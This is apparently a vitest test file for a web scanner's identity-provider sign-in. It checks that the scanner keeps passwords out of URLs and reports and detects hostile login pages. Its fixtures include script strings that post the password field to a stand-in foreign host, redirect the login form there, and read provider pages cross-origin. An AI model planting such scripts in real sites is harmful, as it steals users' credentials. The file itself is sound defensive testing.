import { createServer, type Server } from 'node:http';
import { createServer as createSecureServer } from 'node:https';
import { afterEach, describe, expect, it } from 'vitest';
import type { Login } from '../../../src/contract/login.ts';
import { runScan } from '../../../src/engine/run.ts';
import type { AddressPolicy } from '../../../src/shared/address-guard.ts';
import { issue } from '../../helpers/certificates.ts';
import { chromiumPath } from '../../helpers/chromium.ts';
import { listen } from '../../helpers/listen.ts';
import { secretsIn } from '../../helpers/secret-oracle.ts';
import { enter, statusOf } from './enter.ts';
import { PASSWORD, TOTP_SECRET, USER } from './login-site.ts';
import { identityProvider, type ProviderKind, pageApplication, type Sent, serverApplication } from './provider-site.ts';

const closers: (() => unknown)[] = [];
afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()));
});

interface Setting {
  readonly kind?: ProviderKind;
  readonly application?: 'server' | 'memory' | 'sessionStorage';
  readonly login?: Login;
  readonly pages?: Readonly<Record<string, string>>;
}

/** An application and its provider. */
async function setUp({ kind = {}, application = 'server', pages }: Setting) {
  const foreign: string[] = [];
  const other = await listen(
    createServer(async (request, response) => {
      let text = '';
      for await (const chunk of request) text += chunk;
      foreign.push(`${request.method} ${request.url} ${text}`);
      response.setHeader('Content-Type', 'text/html');
      response.end('<title>Other</title>');
    }),
  );
  let provider = '';
  const site =
    application === 'server'
      ? await serverApplication(() => provider, pages)
      : await pageApplication(() => provider, application);
  const redirects = [`${site.url}/callback`, `${site.url}/cb`];
  const served = await identityProvider(kind, redirects, other.url);
  provider = served.url;
  closers.push(other.close, served.close);
  return { site, provider: served, foreign, other };
}

async function signIn(setting: Setting, more: Partial<Login> = {}, addressPolicy?: AddressPolicy) {
  const made = await setUp(setting);
  const login: Login = {
    username: USER,
    password: PASSWORD,
    identity_provider: [made.provider.url],
    ...setting.login,
    ...more,
  };
  const entered = await enter(made.site, login, closers, {}, chromiumPath, addressPolicy);
  const { failure } = entered.identities;
  return { ...made, ...entered, said: failure === null ? null : [failure.code, failure.message] };
}

const inUrls = (log: readonly Sent[], secret: string) =>
  log.filter(({ url }) => decodeURIComponent(url).includes(secret));
const namesOf = (log: readonly Sent[]) =>
  new Set(
    log.flatMap(({ cookie }) => cookie.split('; ').flatMap((pair) => pair.split('=', 1))).filter((name) => name !== ''),
  );

const WITH_OWN_FORM =
  '<!doctype html><title>Log in</title><form method=post action=/own><input name=user><input name=pass type=password><button>Log in</button></form><a href="/start">Log in with the identity provider</a><a href="/sso/start">SSO</a>';

const GOOD: Readonly<Record<string, Setting>> = {
  'one page, and a session on the server': {},
  'two pages': { kind: { isTwoPages: true } },
  'a one-time code': { kind: { asksForCode: true }, login: { totp: TOTP_SECRET } },
  'the pages that come with the provider': { kind: { isDeveloper: true } },
  'the path that redirects there': { login: { url: '/start' } },
  'a page that has a form of its own beside the link': {
    pages: {
      '/login': WITH_OWN_FORM.replace('"/start"', '"/auth/start"'),
      '/sso/start': '<meta http-equiv=refresh content="0;url=/start">',
    },
  },
  'a token in memory': { application: 'memory' },
  'a token in the session storage': { application: 'sessionStorage' },
};

describe.skipIf(chromiumPath === null)('a sign-in at an identity provider', { timeout: 240_000 }, () => {
  it.each(Object.entries(GOOD))('works with %s', async (_name, setting) => {
    const { site, provider, identities, said, foreign } = await signIn(setting);
    expect([said, site.log.map(({ url }) => url), provider.log.map(({ url }) => url)]).toEqual([
      null,
      expect.anything(),
      expect.anything(),
    ]);
    expect(identities.names).toEqual(['user']);
    const own = setting.application === undefined ? '/settings' : '/api/me';
    expect(await statusOf(identities, own)).toBe(200);
    expect(await statusOf(identities, own, 'none')).not.toBe(200);
    expect(await identities.end()).toBeNull();
    expect(foreign).toEqual([]);
    // The password is in no address, the session of the provider with nobody else, and that of the application not with the provider.
    expect([...inUrls(site.log, PASSWORD), ...inUrls(provider.log, PASSWORD)]).toEqual([]);
    expect([...namesOf(site.log)].filter((name) => name !== 'sid' && name !== 'flow')).toEqual([]);
    expect([...namesOf(provider.log)].filter((name) => !name.startsWith('_'))).toEqual([]);
    // A code counts once: no request repeats the address that brought it.
    expect(site.log.filter(({ url }) => url.includes('code=')).length).toBe(1);
    expect(site.log.filter(({ method, url }) => method === 'POST' && url === '/own')).toEqual([]);
  });
});

const POSTS_ELSEWHERE =
  "<script>addEventListener('submit', () => fetch('{foreign}/take', { method: 'POST', body: document.querySelector('[type=password]').value }));</script>";
const SENDS_ELSEWHERE =
  "<script>addEventListener('submit', () => { document.forms[0].action = '{foreign}/take'; });</script>";

interface Broken extends Setting {
  readonly code: string;
  readonly says: RegExp;
  /** Responses that the provider got the password for, at most. */
  readonly posts?: number;
}

const BROKEN: Readonly<Record<string, Broken>> = {
  'a wrong password': {
    login: { password: 'wrong-Harbor-62' },
    code: 'sign_in_denied',
    says: /^http:\/\/localhost:\d+\/interaction\/\S+ asks for the password again$/,
    posts: 1,
  },
  'a code without a secret for it': {
    kind: { asksForCode: true },
    code: 'sign_in_code_required',
    says: /a one-time code is required/,
    posts: 1,
  },
  'a consent': {
    kind: { asksForConsent: true },
    code: 'sign_in_provider_page',
    says: /^http:\/\/localhost:\d+\/interaction\/\S+ shows "Allow access" after the credentials$/,
  },
  'the consent page that comes with the provider': {
    kind: { isDeveloper: true, asksForConsent: true },
    code: 'sign_in_provider_page',
    says: /shows "Sign-in: Authorize" after the credentials/,
  },
  'a page that copies the password to a third origin': {
    kind: { script: POSTS_ELSEWHERE },
    code: 'sign_in_off_host',
    says: /sends the password to http:\/\/127\.0\.0\.1:\d+, another origin$/,
  },
  'a page that sends its form to a third origin': {
    kind: { script: SENDS_ELSEWHERE },
    code: 'sign_in_off_host',
    says: /sends the credentials to http:\/\/127\.0\.0\.1:\d+, another origin$/,
    posts: 0,
  },
  'an application that names nobody': {
    pages: { '/': '<!doctype html><title>Club</title><p>Nothing here' },
    code: 'sign_in_page_not_found',
    says: /leads to http:\/\/localhost:\d+; give the path/,
    posts: 0,
  },
};

describe.skipIf(chromiumPath === null)('a sign-in at an identity provider fails', { timeout: 240_000 }, () => {
  it.each(Object.entries(BROKEN))('for %s', async (_name, setting) => {
    const { site, provider, identities, said, foreign } = await signIn(setting);
    expect(said).toEqual([setting.code, expect.stringMatching(setting.says)]);
    expect(said?.[1]).not.toContain(PASSWORD);
    expect(identities.names).toEqual([]);
    expect(foreign.filter((line) => line !== 'GET /favicon.ico ')).toEqual([]);
    const posts = provider.log.filter(({ method, url }) => method === 'POST' && url !== '/token');
    expect(posts.length).toBeLessThanOrEqual(setting.posts ?? 2);
    expect([...inUrls(site.log, PASSWORD), ...inUrls(provider.log, PASSWORD)]).toEqual([]);
  });

  it('where the application leads to an origin that is not named', async () => {
    const { provider, said, foreign } = await signIn({}, { identity_provider: ['http://localhost:9'] });
    expect(said?.[0]).toBe('sign_in_provider_other');
    expect(said?.[1]).toMatch(/^\/ leads to http:\/\/localhost:\d+, and identity-provider names http:\/\/localhost:9$/);
    expect([...provider.log, ...foreign]).toEqual([]);
  });

  it('where the provider leads to a third origin after the password', async () => {
    const elsewhere =
      "<script>addEventListener('submit', () => setTimeout(() => { location.href = '{foreign}/next'; }));</script>";
    const { said, foreign } = await signIn({ kind: { script: elsewhere, asksForConsent: true } });
    expect(said).toEqual(['sign_in_provider_other', expect.stringContaining(' leads to http://127.0.0.1:')]);
    expect(foreign).toEqual([]);
  });

  it('to show an application what the provider shows its user', async () => {
    const read = `<!doctype html><title>Club</title><a href="/start">Sign in</a><script>for (const path of ['/interaction/x', '/auth'])
      for (const mode of ['cors', 'no-cors'])
        fetch('{provider}' + path, { mode, credentials: 'include' }).then((answer) => answer.text()).then((text) => text !== '' && fetch('/stolen?' + mode));</script>`;
    const { site, provider, said } = await signIn({ pages: { '/': read } });
    expect(said).toBeNull();
    expect(provider.log.some(({ url }) => url === '/interaction/x')).toBe(true);
    expect(site.log.filter(({ url }) => url.startsWith('/stolen'))).toEqual([]);
  });

  it('where the provider does not respond', async () => {
    const made = await setUp({});
    await made.provider.close();
    const login: Login = { username: USER, password: PASSWORD, identity_provider: [made.provider.url] };
    const { identities } = await enter(made.site, login, closers, {}, chromiumPath);
    expect([identities.failure?.code, identities.failure?.message]).toEqual([
      'sign_in_provider_unreachable',
      `${made.provider.url}: the connection was refused (ECONNREFUSED)`,
    ]);
  });

  it('where its address may not be contacted', async () => {
    const { provider, said } = await signIn({}, {}, { mode: 'public', allow: ['127.0.0.2/32'] });
    expect(said?.[0]).toBe('sign_in_provider_unreachable');
    expect(said?.[1]).toContain('may not be scanned from here: it is not a public address');
    expect(provider.log).toEqual([]);
  });

  it('where its certificate is not trusted', async () => {
    const { privateKeyPem: key, certificatePem: cert } = issue({ dnsNames: ['localhost'] });
    const log: string[] = [];
    const secure = await listen(
      createSecureServer({ key, cert }, (request, response) => {
        log.push(request.url ?? '');
        response.end();
      }) as unknown as Server,
    );
    closers.push(secure.close);
    const origin = secure.url.replace('http://127.0.0.1', 'https://localhost');
    const site = await serverApplication(() => origin);
    const login: Login = { username: USER, password: PASSWORD, identity_provider: [origin] };
    const { identities } = await enter(site, login, closers, {}, chromiumPath);
    expect(identities.failure?.code).toBe('sign_in_provider_unreachable');
    expect(identities.failure?.message).toMatch(/SELF_SIGNED|UNABLE_TO_VERIFY/);
    expect(log).toEqual([]);
  });

  it('and the scan has not passed, nor crawled the provider', async () => {
    const made = await setUp({});
    closers.push(made.site.close);
    const scan = async (password: string) => {
      const result = await runScan({
        target: made.site.url,
        scanType: 'standard',
        ownershipProven: true,
        addressPolicy: { mode: 'any', allow: [] },
        options: { login: { username: USER, password, identity_provider: [made.provider.url] } },
        browserPath: chromiumPath ?? '',
      });
      if (result.status !== 'completed') throw new Error(JSON.stringify(result));
      return result.report;
    };
    const { coverage, checks } = await scan('wrong-Harbor-62');
    expect(coverage).toMatchObject({ application_seen: false, signed_in: false, code: 'sign_in_denied' });
    expect(checks.find(({ check_id }) => check_id === 'content.stack-trace')?.status).toBe('error');
    made.provider.log.splice(0);
    const good = await scan(PASSWORD);
    expect(good.coverage).toMatchObject({ signed_in: true });
    const issued = [...made.site.log, ...made.provider.log].flatMap(({ cookie, url }) => [
      ...cookie.split('; ').map((pair) => pair.slice(pair.indexOf('=') + 1)),
      new URL(url, made.site.url).searchParams.get('code') ?? '',
    ]);
    const secrets = [...new Set([PASSWORD, ...issued.filter(({ length }) => length >= 8)])];
    expect(secrets.length).toBeGreaterThan(4);
    expect(secretsIn(JSON.stringify(good), secrets)).toEqual([]);
    // The provider saw one sign-in, and nothing of a crawl or an attack.
    const paths = made.provider.log.map(({ url }) => new URL(url, made.provider.url).pathname);
    expect(
      paths.filter((path) => !/^\/(?:auth(?:\/[\w-]+)?|interaction\/[\w-]+|token|favicon\.ico)$/.test(path)),
    ).toEqual([]);
    expect(paths.filter((path) => path === '/token').length).toBe(1);
  });
});

it('at an identity provider needs a browser', async () => {
  const site = await serverApplication(() => 'http://localhost:9');
  const login: Login = { username: USER, password: PASSWORD, identity_provider: ['http://localhost:9'] };
  const { identities } = await enter(site, login, closers, {}, null);
  expect(identities.failure?.code).toBe('sign_in_scripted');
  expect(site.log).toEqual([]);
});
